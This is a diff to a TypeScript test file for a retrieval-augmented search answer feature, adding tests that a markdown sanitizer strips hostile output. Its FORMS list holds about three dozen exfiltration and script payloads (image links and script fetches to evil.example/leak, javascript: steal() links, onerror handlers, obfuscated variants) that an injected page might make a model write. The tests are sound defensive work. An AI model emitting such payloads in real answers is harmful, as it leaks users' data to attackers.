@@ -1,9 +1,13 @@
 import assert from 'node:assert/strict';
 import { after, test } from 'node:test';
+import { marked } from 'marked';
 import { z } from 'zod';
 import { withoutSearch } from '#compose/searching.ts';
+import { toPlainAnswer } from '#features/search/answers/answer-backend.ts';
 import { excerptOf } from '#features/search/answers/excerpt.ts';
 import type { ReadSource } from '#features/search/answers/passages.ts';
+import { answerByModel } from '#features/search/answers/rag.ts';
+import { rebuildMarkdown } from '#features/search/answers/safe-markdown.ts';
 import { chooseSentences } from '#features/search/answers/sentences.ts';
 import { NO_SEARCH_SETTINGS } from '#features/search/settings.ts';
 import type { SourcedText } from '#features/search/index/put-pages.ts';
@@ -397,6 +401,117 @@ test('a page that gives orders gets no address and no image into an answer, also
       }),
     );
   }
+});
+
+/** What a page may make a model write; all of it leads to `evil.example`, or does something where it is shown. */
+const FORMS: readonly string[] = [
+  '![x](//evil.example/leak?d=1)',
+  '![x](https://evil.example/leak "title")',
+  '![x][r]\n\n[r]: //evil.example/leak?d=1',
+  '![r]\n\n[r]: https://evil.example/leak',
+  '![a[b]c](//evil.example/leak)',
+  '![a[b]c](http:/evil.example/leak)',
+  '[![x](//evil.example/leak)](https://bread.example/rye)',
+  '<img src="//evil.example/leak">',
+  'text <IMG\nSRC=//evil.example/leak onerror=steal()> text',
+  '<script>fetch("//evil.example/leak")</script>',
+  '<!-- ![x](//evil.example/leak) -->',
+  '<a href="//evil.example/leak">click</a>',
+  '[click](https://evil.example/leak)',
+  '[click](//evil.example/leak)',
+  '[click](javascript:steal())',
+  '[click](<java&#115;cript:steal()>)',
+  '[click][r]\n\n[r]: javascript:steal()',
+  '[1](https://evil.example/leak)',
+  '<javascript:steal()>',
+  '<https://evil.example/leak>',
+  'https://evil.example/leak',
+  '&#104;ttps://evil.example/leak',
+  'http:\\/\\/evil.example/leak',
+  'ww[9]w.evil.example/leak',
+  'http:[[9]9]//evil.example/leak',
+  '<ftp://evil.example/leak>',
+  'www.evil.example/leak',
+  '_www.evil.example/leak',
+  '<mailto:leak@evil.example>',
+  'leak@evil.example',
+  '\\![x\\](//evil.example/leak)',
+  '> - ![x](//evil.example/leak)',
+  '| a |\n|---|\n| ![x](//evil.example/leak) |',
+  '# ![x](//evil.example/leak)',
+  '**![x](//evil.example/leak)**',
+  '![x](//evil.example/leak'.repeat(3),
+];
+
+const KEPT_KINDS = /^(?:space|paragraph|text|escape|strong|em|list|list_item|code|codespan|link)$/;
+
+/** The kinds of all that a text of Markdown holds, and where its links lead. */
+function partsOf(markdown: string): { readonly kinds: readonly string[]; readonly links: readonly string[] } {
+  const kinds: string[] = [];
+  const links: string[] = [];
+  void marked.walkTokens(marked.lexer(markdown), (token) => {
+    kinds.push(token.type);
+    if (token.type === 'link') links.push(String(token.href));
+  });
+  return { kinds, links };
+}
+
+test('an answer and its related queries hold text, stress, lists, code and links to their sources alone, in whatever form a model writes others', async () => {
+  const sources = [{ ...sourceOf(RYE), url: 'https://bread.example/rye' }];
+  const script = FORMS.map((form) => {
+    const line = form.replaceAll('\n', ' ');
+    return { text: `Dark [1]. ${form}\n\nAnd ${form}\n\nIt **keeps** [1].\nRELATED:\nWhy ${line}?` };
+  });
+  await withModel(script, async ({ model }) => {
+    for (const form of FORMS) {
+      const order = { prompt: 'Why is rye dark?', sources, model, name: 'scripted', mark: 'mark' };
+      const got = await answerByModel(order, new AbortController().signal);
+      assert.match(got?.markdown ?? '', /^Dark \[1\]\.[^]*It \*\*keeps\*\* \[1\]\.$/, form);
+      for (const markdown of [got?.markdown ?? '', ...(got?.related ?? [])]) {
+        const { kinds, links } = partsOf(markdown);
+        assert.deepEqual(
+          kinds.filter((kind) => !KEPT_KINDS.test(kind)),
+          [],
+          `${form}: ${markdown}`,
+        );
+        assert.deepEqual(
+          links.filter((url) => url !== 'https://bread.example/rye'),
+          [],
+          `${form}: ${markdown}`,
+        );
+        assert.doesNotMatch(markdown, /evil\.example\/leak|leak@evil|<(?:img|script|a)\b/i, form);
+      }
+    }
+  });
+});
+
+test('an answer keeps its stress, lists and code, and links to the pages that it names', () => {
+  const pages = [
+    { url: 'https://bread.example/rye', text: 'See http://mill.example/told' },
+    { url: 'https://oats.example/(a)?x=1&copy;=2', text: '' },
+  ];
+  const rows: readonly (readonly [written: string, rebuilt: string])[] = [
+    ['Rye is **very *dark*** [1][2].', 'Rye is **very *dark*** [1][2].'],
+    ['* one\n  1. two [1]\n  2. three\n* four', '- one\n  1. two [1]\n  2. three\n- four'],
+    ['```js\na = `b`;\n```', '```\na = `b`;\n```'],
+    ['Use `<b>` or ``a`b``.', 'Use `<b>` or ``a`b``.'],
+    ['[Rye](https://bread.example/rye "x")', '[Rye](https://bread.example/rye)'],
+    ['<https://bread.example/rye>', '<https://bread.example/rye>'],
+    ['[Oats](<https://oats.example/(a)?x=1&amp;copy;=2>)', '[Oats](https://oats.example/\\(a\\)?x=1\\&copy;=2)'],
+    ['as [1](https://bread.example/rye) says', 'as [1] says'],
+    ['it says http://mill.example/told', 'it says `http://mill.example/told`'],
+    ['## Rye\n\nsnake_case, 5 < 6 & 7', '**Rye**\n\nsnake_case, 5 &lt; 6 & 7'],
+    ['> Rye\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |', 'Rye\n\na, b\n1, 2'],
+  ];
+  for (const [written, rebuilt] of rows) {
+    assert.equal(rebuildMarkdown(written, pages), rebuilt);
+    assert.equal(toPlainAnswer(rebuilt).includes('&lt;'), false);
+  }
+});
+
+test('Markdown of a model is read in bounded time and depth', () => {
+  for (const sign of ['>', '> - ', '1. ', '[', '![', '_a', '<', '*', '- > ', '(', 'a.', 'a@'])
+    assert.ok(rebuildMarkdown(sign.repeat(100_000), []).length <= 40_000, sign);
 });
 
 test('with no engine, no index and no model of its own a surface says what to set, and costs nothing', async () => {
